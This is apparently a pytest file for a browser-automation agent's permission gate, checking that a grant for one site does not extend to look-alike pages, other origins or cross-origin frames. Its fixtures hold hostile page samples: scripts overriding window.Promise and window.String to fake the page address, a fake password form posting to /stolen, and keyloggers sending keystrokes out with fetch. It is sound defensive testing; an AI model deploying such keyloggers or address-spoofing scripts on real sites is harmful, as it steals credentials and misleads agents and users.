"""Pages that want to pass for another: what a person decides on, and what their word covers, is the true."""

from __future__ import annotations

import asyncio
import json
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.tools.browser.driven import Driven, needs_browser
from tests.tools.browser.site import Site

pytestmark = [pytest.mark.long, needs_browser]
SECRET = "hunter2-4471"
FIELD = "<form action=/stolen><input name=q aria-label=Password></form>"
OTHER_ADDRESS = """<title>Login</title><script>
const Real = Promise;
window.Promise = function (work) {
  const lie = (told, done) => { if (told && told.url) told.url = GOOD; done(told); };
  return new Real((done, fail) => work((told) => lie(told, done), fail));
};
Promise.prototype = Real.prototype;
</script>"""
SAME_DOCUMENT = """<title>Good</title><script>
window.String = function anything() {
  const found = /timeOrigin\\) !== ("[^"]*")/.exec(anything.caller.toString());
  return found ? JSON.parse(found[1]) : "";
};
</script>"""


@pytest.fixture
def pages(site: Site) -> Iterator[tuple[Site, str, str]]:
    """A site, its address as somebody good, and as somebody else: to a browser these are two sites."""
    before = dict(site.texts)
    yield site, site.url, f"http://localhost:{site.port}"
    site.texts = before


@pytest.fixture
def asking(site: Site, tmp_path: Path) -> Iterator[Driven]:
    driven = Driven(tmp_path, [site.host, f"localhost:{site.port}"], mode="ask", answers=["session", "deny"])
    yield driven
    driven.close()


def grant(asking: Driven, good: str) -> None:
    """The person's word for the session on the good site."""
    asking.runtime.gate.addresses.note_person(f"{good}/ {good.replace('127.0.0.1', 'localhost')}/")
    asking.call("navigate", url=f"{good}/good")
    asking.call("type", ref=asking.ref("textbox", "Name"), text="me")
    assert asking.asked[0].grant == f"act on {good.removeprefix('http://')} in the browser"
    assert asking.asked[0].deed == f"it acts on a page of {good.removeprefix('http://')}"
    asking.asked.clear()


def test_a_page_that_lies_about_its_address_is_asked_about_by_its_own(
    asking: Driven, pages: tuple[Site, str, str]
) -> None:
    site, good, evil = pages
    site.texts["/good"] = "<title>Good</title><input aria-label=Name>"
    site.texts["/evil"] = OTHER_ADDRESS.replace("GOOD", json.dumps(f"{good}/login")) + FIELD
    grant(asking, good)
    opened = asking.call("navigate", url=f"{evil}/evil")
    assert opened.data["url"] == f"{evil}/evil"
    asking.call("type", ref=asking.ref("textbox", "Password"), text=SECRET, submit=True)
    assert f"on the page {evil}/evil" in asking.asked[0].summary
    assert not any(SECRET in path for path in site.paths())


def test_nothing_is_typed_where_the_page_has_gone_to_another_site_in_between(
    asking: Driven, pages: tuple[Site, str, str]
) -> None:
    site, good, evil = pages
    site.texts["/good"] = "<title>Good</title><input aria-label=Name>"
    site.texts["/fake"] = (
        SAME_DOCUMENT + FIELD + "<script>onkeydown = (e) => fetch('/stolen?k=' + e.key)</script>"
    )
    grant(asking, good)
    gone = asking.session._run(["open", f"{evil}/fake"])  # as whoever opened the page could have it go
    loop = asking.browser._loop
    assert loop is not None
    assert asyncio.run_coroutine_threadsafe(gone, loop).result(30)[0].ok
    pressed = asking.call("press", key="a")
    assert "another than the one you saw" in pressed.error
    assert "/stolen?k=a" not in site.paths()


def test_a_word_for_a_page_is_none_for_the_frames_of_others_in_it(
    asking: Driven, pages: tuple[Site, str, str]
) -> None:
    site, good, evil = pages
    site.texts["/good"] = f"<title>Good</title><input aria-label=Name><iframe src='{evil}/frame'></iframe>"
    site.texts["/frame"] = (
        f"<div>{FIELD}<textarea aria-label=T>a\n- heading\nb</textarea></div><a href=/x>Link</a>"
    )
    grant(asking, good)
    for name, arguments in (
        ("type", {"ref": asking.ref("textbox", "Password"), "text": SECRET, "submit": True}),
        ("click", {"ref": asking.ref("link", "Link")}),
    ):
        asking.asked.clear()
        asking.call(name, **arguments)
        assert asking.asked[0].grant == ""
        assert "in a frame" in asking.asked[0].summary
    assert not any(SECRET in path for path in site.paths())


def test_a_frame_that_takes_the_focus_hears_no_keys(asking: Driven, pages: tuple[Site, str, str]) -> None:
    site, good, evil = pages
    site.texts["/good"] = f"<title>Good</title><input aria-label=Name><iframe src='{evil}/frame'></iframe>"
    site.texts["/frame"] = (
        "<input id=i autofocus><script>i.focus(); onkeydown = (e) => fetch('/k' + e.key)</script>"
    )
    grant(asking, good)
    with asking.under("yolo"):
        inside = next(ref for ref in asking.session.framed if asking.session.refs[ref][0] == "textbox")
        asking.call("click", ref=inside)
    assert "the focus is in a frame of another site" in asking.call("press", key="a").error
    assert "/ka" not in site.paths()
